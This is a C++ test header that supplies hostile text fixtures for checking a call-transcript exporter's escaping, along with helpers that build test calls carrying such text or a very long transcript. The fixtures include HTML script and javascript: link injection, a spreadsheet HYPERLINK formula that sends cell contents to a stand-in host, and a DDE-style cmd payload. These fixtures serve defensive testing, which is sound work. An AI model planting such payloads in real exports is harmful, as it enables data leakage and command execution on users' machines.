#pragma once

#include "core/call/calldata.h"
#include "testturns.h"

#include <QStringList>

namespace Revox::TestCalls {

// Text that has broken exporters elsewhere: HTML/Markdown injection, spreadsheet formulas,
// direction overrides, astral characters, QString::arg placeholders, CSV metacharacters.
inline QList<QPair<QByteArray, QString>> hostileTexts()
{
    return {
        {"html img tag", QStringLiteral("<img src=http://127.0.0.1:1/x>")},
        {"html script", QStringLiteral("</div><script>alert(1)</script><div>")},
        {"markdown fence", QStringLiteral("```\n# not a heading\n```\n~~~\nstill text")},
        {"markdown long fence", QStringLiteral("``````` seven backticks ```` and four")},
        {"markdown link and image",
         QStringLiteral("[click](javascript:alert(1)) ![x](http://e.example/x.png)")},
        {"markdown block markers",
         QStringLiteral("# h1\n> quote\n- item\n1. one\n    code\n===\n---\n| a | b |")},
        {"markdown emphasis", QStringLiteral("*bold* _it_ **x** __y__ ~~z~~ <b>&amp; \\ end\\")},
        {"csv formula", QStringLiteral("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")")},
        {"csv plus", QStringLiteral("+SUM(1,2)")},
        {"csv minus", QStringLiteral("-2+3")},
        {"csv at", QStringLiteral("@cmd|' /C calc'!A0")},
        {"csv tab", QStringLiteral("\t=1+1")},
        {"csv carriage return", QStringLiteral("\r=1+1")},
        {"csv metacharacters", QStringLiteral("a,b\"c\r\nd\"\"e,")},
        {"rtl override", QStringLiteral("abc \u202e cba \u202c and \u200f\u05e9\u05dc\u05d5\u05dd")},
        {"emoji", QStringLiteral("👩‍💻 🎉 🇫🇷 \U0001F600")},
        {"arg placeholders", QStringLiteral("%1 %2 %3 %L1 %%")},
        {"control characters", QStringLiteral("bell\u0007 form\u000c feed \u2028 line sep")},
        {"empty", QString()},
    };
}

// A call whose every free-text place holds `text`: the caller and the agent say it, a tool is
// named it, gets it as arguments and returns it, and it is in the metadata.
inline Call callSaying(const QString &text)
{
    Call call;
    call.id = QStringLiteral("call_hostile");
    call.status = QStringLiteral("completed");
    call.metadata = QJsonObject{{QStringLiteral("note"), text},
                                {QStringLiteral("key ") + text, QStringLiteral("value")}};
    CallAttempt attempt;
    attempt.id = QStringLiteral("att_1");
    attempt.status = QStringLiteral("completed");
    attempt.endReason = text;
    attempt.transcript = QList<TranscriptEntry>{
        turn(QStringLiteral("user"), text),
        toolTurn(text, text, text, true),
        turn(QStringLiteral("assistant"), QStringLiteral("after")),
    };
    call.callAttempts.append(attempt);
    return call;
}

inline Call hugeCall(int turns)
{
    Call call;
    call.id = QStringLiteral("call_huge");
    CallAttempt attempt;
    attempt.id = QStringLiteral("att_huge");
    QList<TranscriptEntry> transcript;
    transcript.reserve(turns);
    for (int i = 0; i < turns; ++i) {
        if (i % 10 == 9) {
            transcript.append(toolTurn(QStringLiteral("lookup"),
                                       QStringLiteral("{\"turn\": %1}").arg(i),
                                       QStringLiteral("ok %1").arg(i),
                                       i % 20 == 19));
        } else {
            transcript.append(
                turn(i % 2 ? QStringLiteral("user") : QStringLiteral("assistant"),
                     QStringLiteral("Turn %1: the quick brown fox, \"quoted\", <b>not bold</b>.")
                         .arg(i)));
        }
    }
    attempt.transcript = transcript;
    call.callAttempts.append(attempt);
    return call;
}

} // namespace Revox::TestCalls
